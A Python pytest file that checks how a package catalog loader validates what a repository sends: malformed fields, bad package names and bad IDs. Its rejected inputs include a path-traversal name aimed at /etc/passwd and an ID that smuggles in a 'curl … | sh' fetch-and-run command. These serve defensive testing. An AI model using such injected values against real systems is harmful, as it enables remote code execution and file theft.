# SPDX-License-Identifier: Apache-2.0

"""What a repository sends of a package is checked before a command reads it."""

import uuid
from typing import Any

import pytest

import loader
from glare_murano import wire
from glare_murano.package import InvalidName, Version
from loader.catalogs.stored_package import StoredPackage


def _stored(fqn: str = "org.a", **fields: Any) -> StoredPackage:
    return StoredPackage("id", fqn, Version("1.0.0"), "active", "private", "project", fields)


@pytest.mark.parametrize(
    "fields",
    [
        {"archive": []},
        {"archive": {"size": ["a"]}},
        {"archive": {"sha256": "\x1b"}},
        {"tags": 5},
        {"tags": [{}]},
        {"categories": {"a": "b"}},
        {"class_definitions": [None]},
        {"inherits": {"a": 5}},
        {"requirements": {"org.b": []}},
        {"requirements": {"../b": "1"}},
    ],
)
def test_a_field_in_another_form_is_malformed(fields: dict[str, Any]) -> None:
    with pytest.raises((wire.Malformed, InvalidName)):
        _stored(**fields)


def test_a_name_that_no_package_has_is_refused() -> None:
    with pytest.raises(InvalidName):
        _stored("../../etc/passwd")


def test_a_draft_has_few_fields() -> None:
    draft = _stored(archive=None, tags=None, categories=[""], inherits={}, requirements={})
    assert (draft.digest, draft.size) == ("", None)


@pytest.mark.parametrize(
    "package_id",
    ["a; curl http://example.org | sh", "--debug", "a b", "a/../b", "a\n", "a" * 65],
)
def test_an_id_that_is_more_than_a_word_is_refused(package_id: str) -> None:
    content = {
        **{"id": package_id, "name": "org.a", "version": "1.0.0", "status": "active"},
        **{"visibility": "public", "owner": "project"},
    }
    assert StoredPackage.from_json({**content, "id": str(uuid.uuid4())}, "Glare").fqn == "org.a"
    with pytest.raises(loader.CatalogError, match=r"^Glare sent .* is not the id of a package"):
        StoredPackage.from_json(content, "Glare")
